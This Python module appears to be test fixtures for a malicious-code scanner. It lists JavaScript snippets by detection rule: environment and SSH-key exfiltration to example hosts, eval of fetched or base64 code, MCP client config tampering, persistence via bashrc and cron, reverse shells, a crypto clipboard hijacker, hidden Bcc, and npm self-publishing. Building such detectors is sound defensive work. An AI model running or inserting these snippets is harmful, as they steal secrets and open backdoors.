"""Incidents in JavaScript, each spelled in several ways. ``{rule: [source, …]}``; nothing here is ever run."""

from __future__ import annotations

from typing import Final

SOURCES: Final[dict[str, list[str]]] = {
    "code.environment_sent": [
        "import https from 'node:https';\nconst body = JSON.stringify(process.env);\n"
        "const r = https.request({hostname: 'telemetry.example.com', method: 'POST'});\nr.write(body); r.end();",
        "const {env: e} = require('process');\nconst all = {...e};\nfetch('https://t.example.com/x', {method: 'POST', body: JSON.stringify(all)});",
        "const ax = require('axi' + 'os');\nconst out = [];\nfor (const k of Object.keys(process['e' + 'nv'])) { out.push(k + '=' + process['env'][k]); }\n"
        "ax.post(`https://t.example.com/${out.length}`, { data: out.join('\\n') });",
        "const g = globalThis;\nfunction pack(o) { return Buffer.from(JSON.stringify(o)).toString('base64'); }\n"
        "async function ship(d) { const { default: f } = await import('node-fetch'); await f('https://c.example.net', { method: 'PUT', body: d }); }\n"
        "ship(pack(g.process.env));",
        "const dns = require('dns');\nconst hex = Buffer.from(Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join(';')).toString('hex');\n"
        "dns.lookup(hex.slice(0, 60) + '.c.example.com', () => {});",
        "class T { constructor() { this.snapshot = Object.assign({}, process.env); } send() { const x = new XMLHttpRequest(); x.open('POST', 'https://a.example.org'); x.send(JSON.stringify(this.snapshot)); } }\nnew T().send();",
    ],
    "code.secrets_sent": [
        "const fs = require('fs'), os = require('os'), path = require('path');\nconst key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n"
        "fetch('https://api.telegram.org/bot' + token + '/sendMessage', {method: 'POST', body: JSON.stringify({chat_id: 1, text: key})});",
        "import { readFile as rf } from 'node:fs/promises';\nimport got from 'got';\nrf(`${process.env.HOME}/.n${'pmrc'}`, 'utf8').then((d) => got.post('https://x.example.com', { json: { d } }));",
        "const { readFileSync: r } = require('fs');\nconst files = ['/.aws/credentials', '/.git-credentials'];\nconst loot = files.map((f) => { try { return r(require('os').homedir() + f, 'utf8'); } catch { return ''; } });\n"
        "const s = require('net').connect(4444, 'c.example.com'); s.write(loot.join('\\n'));",
        "const cp = require('child_process');\nconst out = cp.execSync('cat ~/.ssh/id_ed25519').toString();\nrequire('https').get('https://l.example.com/?q=' + encodeURIComponent(out));",
    ],
    "code.decoded_run": [
        "const p = 'Y29uc29sZS5sb2coMSk=';\neval(Buffer.from(p, 'base64').toString());",
        "const f = new Function(atob('Y29uc29sZS5sb2coMSk='));\nf();",
        "const k = [99, 111, 110].map((c) => String.fromCharCode(c ^ 1)).join('');\n(0, eval)(k);",
        "const vm = require('v' + 'm');\nconst z = require('zlib');\nvm.runInThisContext(z.inflateSync(Buffer.from('eJwDAAAAAAE=', 'base64')).toString());",
        "const d = globalThis['at' + 'ob'];\n[].constructor.constructor(d('Y29uc29sZS5sb2coMSk='))();",
        "require('child_process').exec(Buffer.from('bHMgLWxh', 'base64').toString());",
    ],
    "code.fetched_run": [
        "fetch('https://c.example.com/p').then((r) => r.text()).then((t) => eval(t));",
        "const https = require('https');\nhttps.get('https://c.example.com/p', (res) => { let b = ''; res.on('data', (c) => { b += c; }); res.on('end', () => { new Function(b)(); }); });",
        "import axios from 'axios';\nconst { data } = await axios.get('https://c.example.com/p');\nawait new (Object.getPrototypeOf(async function () {}).constructor)(data.code)();\nrequire('vm').runInNewContext(data.code);",
    ],
    "code.client_config": [
        "const fs = require('fs'), os = require('os'), path = require('path');\nconst p = path.join(os.homedir(), '.cursor', 'mcp.json');\nconst c = JSON.parse(fs.readFileSync(p));\nc.mcpServers.x = { command: 'node' };\nfs.writeFileSync(p, JSON.stringify(c));",
        "import { writeFile } from 'fs/promises';\nimport { homedir } from 'os';\n(async () => { await writeFile(`${homedir()}/.claude.json`, '{}'); })();",
        "const f = require('fs');\nfunction plant(name) { f.appendFileSync(process.env.HOME + '/' + name, 'x'); }\n['Library/Application Support/Claude/claude_desktop' + '_config.json'].forEach((n) => plant(n));",
        "const { promises: { writeFile: w } } = require('node:fs');\nsetTimeout(() => w(require('path').resolve('/home/u', '.codeium', 'windsurf', 'mcp_config.json'), '{}'), 1000);",
    ],
    "code.startup": [
        "const fs = require('fs');\nfs.appendFileSync(require('os').homedir() + '/.bashrc', '\\nnode /tmp/x.js &\\n');",
        "import { execSync } from 'child_process';\nexecSync(`(crontab -l; echo '@reboot node /tmp/x.js') | crontab -`);",
        "const { spawnSync: s } = require('child_process');\nrequire('fs').writeFileSync(`${process.env.HOME}/.config/systemd/user/x.service`, '[Unit]');\ns('systemctl', ['--user', 'enable', 'x']);",
        "require('fs')['writeFile' + 'Sync'](['/home/u', 'Library', 'LaunchAgents', 'com.x.plist'].join('/'), '<plist/>');",
    ],
    "code.collector": [
        "fetch('https://webhook.site/0b5c-11aa', { method: 'POST', body: require('os').hostname() });",
        "const a = require('axios');\na({ url: 'https://discord.com/api/webhooks/123456789012/abcDEF', method: 'post', data: { content: 'x' } });",
        "const h = ['eo1', 'm', 'pipedream', 'net'].join('.');\nrequire('https').request({ host: h, path: '/' }).end('x');",
        "const u = `https://api.telegram.org/bot${'7012345678:AAF-abcdefghij'}/sendMessage`;\nnew (require('undici').Client)(u).request({ body: 'x' });",
    ],
    "code.templated_shell": [
        "import { exec } from 'child_process';\nserver.tool('log', { dir: z.string() }, async ({ dir }) => { exec(`git -C ${dir} log`, () => {}); });",
        "const cp = require('child_process'), { promisify } = require('util');\nconst run = promisify(cp.exec);\nserver.setRequestHandler(S, async (req) => { const a = req.params.arguments; return run('ping -c 1 ' + a.host); });",
        "const { spawn } = require('child_process');\nexport function show(file) { return spawn('sh', ['-c', 'cat ' + file]); }",
        "const { execSync: sh } = require('child_process');\nclass Git { clone(args) { return sh(['git clone', args.url].join(' ')); } }\nexport default Git;",
    ],
    "code.reverse_shell": [
        "const net = require('net'), cp = require('child_process');\nconst s = net.connect(4444, 'c.example.com');\nconst sh = cp.spawn('/bin/sh', []);\ns.pipe(sh.stdin); sh.stdout.pipe(s);",
        "import { Socket } from 'net';\nimport { spawn as go } from 'child_process';\nconst c = new Socket();\nc.connect(1, 'c.example.com', () => { const p = go(process.platform === 'win32' ? 'cmd.exe' : 'bash'); c.pipe(p.stdin); p.stdout.pipe(c); });",
        "require('child_process').exec('bash -i >& /dev/tcp/c.example.com/4444 0>&1');",
        "const { execSync } = require('child_process');\nexecSync('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c.example.com 1 > /tmp/f');",
    ],
    "code.clipper": [
        "const clip = require('clipboardy');\nconst mine = 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq';\nsetInterval(() => { if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(clip.readSync())) clip.writeSync(mine); }, 500);",
        "import c from 'clipboardy';\nconst w = { eth: '0x' + '52908400098527886E0F7030069857D2E4169EE7' };\nawait c.write(w.eth);",
        "const real = window.fetch;\nwindow.fetch = async (...a) => { const r = await real(...a); const t = await r.text(); return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, '0x52908400098527886E0F7030069857D2E4169EE7')); };",
    ],
    "code.obfuscated": [
        "var _0x4a3f=['log'];" + "".join(f"var _0x{n:04x}=_0x4a3f[0];" for n in range(40)),
        "function _0x1b2c(a){return a}" + "".join(f"const _0x{n:05x}=_0x1b2c({n});" for n in range(40)),
        "eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}))",
    ],
    "code.blind_copy": [
        "client.sendEmail({ From: f, To: to, Bcc: 'phan@giftshop.example', Subject: s });",
        "const m = { to };\nm['b' + 'cc'] = ['phan', 'giftshop.example'].join('@');\npostmark.send(m);",
        "const hidden = 'phan' + '@' + 'giftshop.example';\ntransport.sendMail({ to, bcc: hidden });",
    ],
    "code.spreads": [
        "const cp = require('child_process');\ncp.execSync('npm publish --access public', { cwd: dir });",
        "import { spawnSync } from 'child_process';\nspawnSync('npm', ['publish', '--access=public']);",
        "const { exec: e } = require('child_process');\n(() => e(`cd ${d} && np` + 'm publish'))();",
    ],
    "code.hidden_address": [
        "const u = atob('aHR0cHM6Ly9jLmV4YW1wbGUuY29tL3g=');\nfetch(u, { method: 'POST', body: 'x' });",
        "const u = Buffer.from('68747470733a2f2f632e6578616d706c652e636f6d', 'hex').toString();\nrequire('axios').post(u, {});",
        "const u = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 99, 46, 101);\nnavigator.sendBeacon(u, 'x');",
    ],
}  # fmt: skip
